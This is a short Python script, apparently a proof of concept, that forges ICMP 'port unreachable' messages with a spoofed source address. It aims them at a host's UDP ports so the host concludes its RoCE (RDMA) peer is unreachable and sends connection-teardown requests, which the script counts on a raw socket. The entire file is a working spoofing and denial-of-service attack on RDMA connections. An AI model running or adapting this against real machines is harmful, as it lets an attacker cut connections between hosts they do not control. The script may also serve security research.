"""Forges "port unreachable" in the name of a host, for what another host sends to its UDP port
4791, until that other host has asked 20 times whether its peer is alive.

forge.py PID VICTIM PEER: PID is a process of the victim's host, to read the host's UDP ports from.
Both are IPv4 addresses. It runs on the peer's host, where questions come by.
"""

import socket
import struct
import sys
import time

ROCE = 4791
DREQ = 0x15
PATIENCE = 100


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ports(pid, victim):
    """UDP ports of the victim from which it checks hosts."""
    local = "%08X" % struct.unpack("=I", socket.inet_aton(victim))[0]
    with open(f"/proc/{pid}/net/udp") as table:
        rows = [line.split()[1].split(":") for line in list(table)[1:]]
    found = [int(port, 16) for address, port in rows if address == local]
    return [port for port in found if port != ROCE]


def unreachable(victim, peer, port):
    addresses = socket.inet_aton(victim) + socket.inet_aton(peer)
    header = struct.pack("!BBHHHBBH", 0x45, 0, 28, 0, 0x4000, 64, 17, 0) + addresses
    header = header[:10] + struct.pack("!H", checksum(header)) + header[12:]
    quoted = header + struct.pack("!HHHH", port, ROCE, 8, 0)
    message = struct.pack("!BBHI", 3, 3, 0, 0) + quoted
    return message[:2] + struct.pack("!H", checksum(message)) + message[4:]


def is_question(frame, victim):
    """Whether it is a DREQ: a MAD of communication management in a UD packet to QP1."""
    return (
        len(frame) >= 80
        and frame[12:14] == b"\x08\x00"
        and frame[23] == socket.IPPROTO_UDP
        and frame[26:30] == socket.inet_aton(victim)
        and frame[36:38] == struct.pack("!H", ROCE)
        and frame[42] == 0x64
        and frame[63] == 7
        and frame[78:80] == struct.pack("!H", DREQ)
    )


def main(pid, victim, peer):
    frames = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    frames.setblocking(False)
    attacker = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    asked, end = 0, time.monotonic() + PATIENCE
    while asked < 20:
        if time.monotonic() > end:
            sys.exit(f"it asked {asked} times in {PATIENCE} s")
        for port in ports(pid, victim):
            attacker.sendto(unreachable(victim, peer, port), (victim, 0))
        try:
            while True:
                asked += is_question(frames.recv(2048), victim)
        except BlockingIOError:
            pass
    print(f"it was asked {asked} times")


main(*sys.argv[1:])
